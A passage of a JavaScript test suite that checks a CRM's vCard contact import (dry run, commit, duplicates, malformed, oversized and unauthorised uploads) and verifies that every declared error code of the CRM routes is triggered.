      const card = (name, email) => `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:${name}\r\nEMAIL:${email}\r\nEND:VCARD\r\n`;
      const importCards = (who, text, mode) => api('POST', `${CRM}/contacts/import?mode=${mode}`, { token: who.token, body: text, headers: headersFor('POST', vcard) });
      const cards = card('Vera Card', 'vera@cards.example') + card('ורה כהן', 'vera.cohen@cards.example');
      const before = (await ok(A, 'GET', '/api/v1/partners/stats')).total;
      const dry = await importCards(A, cards, 'dry_run');
      assert.equal(dry.status, 200, dry.text);
      assert.deepEqual([dry.json.contacts, dry.json.created, dry.json.duplicates], [2, 0, 0]);
      assert.equal((await ok(A, 'GET', '/api/v1/partners/stats')).total, before);
      const done = await importCards(A, cards, 'commit');
      assert.deepEqual([done.json.contacts, done.json.created, done.json.duplicates], [2, 2, 0], done.text);
      assert.equal((await ok(A, 'GET', '/api/v1/partners/stats')).total, before + 2);
      const twice = await importCards(A, cards, 'commit');
      assert.deepEqual([twice.json.created, twice.json.duplicates], [0, 2], twice.text);
      await refuse(A, 'POST', `${CRM}/contacts/import?mode=commit`, 'no cards here', 422, 'vcard_empty', { headers: vcard });
      await refuse(A, 'POST', `${CRM}/contacts/import?mode=commit`, 'BEGIN:VCARD\r\nFN:Half\r\n', 422, 'vcard_malformed', { headers: vcard });
      await refuse(A, 'POST', `${CRM}/contacts/import?mode=commit`, Array.from({ length: 5001 }, (_, i) => card(`C${i}`, `c${i}@many.example`)).join(''), 422, 'vcard_too_many', { headers: vcard });
      // A name partners refuses (over 300 bytes) refuses the whole file.
      await refuse(A, 'POST', `${CRM}/contacts/import?mode=commit`, card('Fresh One', 'fresh@cards.example') + card('N'.repeat(400), 'long@cards.example'), 422, 'import_rows_invalid', { headers: vcard });
      await refuse(as.sales1, 'POST', `${CRM}/contacts/import?mode=commit`, cards, 403, 'permission_denied', { headers: vcard });
    });

    it('triggered every error code the CRM routes declare', (t) => {
      const declared = new Set(routes.flatMap((r) => r.codes));
      const missing = [...declared].filter((code) => !seen.has(code) && !(code in UNREACHABLE)).sort();
      assert.deepEqual(missing, [], `declared by a CRM route but never triggered: ${missing.join(', ')}`);
      const reached = Object.keys(UNREACHABLE).filter((code) => seen.has(code));
      assert.deepEqual(reached, [], 'listed as unreachable but triggered: take them off UNREACHABLE');
      const stale = Object.keys(UNREACHABLE).filter((code) => !declared.has(code));
      assert.deepEqual(stale, [], 'listed as unreachable but no longer declared');
      assert.deepEqual(undeclared, [], 'codes a CRM route answered without declaring them');
      // Per route, for whoever adds a route: the declared codes this file does not reach there.
      for (const r of routes) {
        const got = seenOn.get(`${r.method} ${r.template}`) ?? new Set();
        const left = r.codes.filter((c) => !got.has(c));
        if (left.length) t.diagnostic(`${r.method} ${r.template}: not triggered here: ${left.join(', ')}`);
      }
    });
  });
}
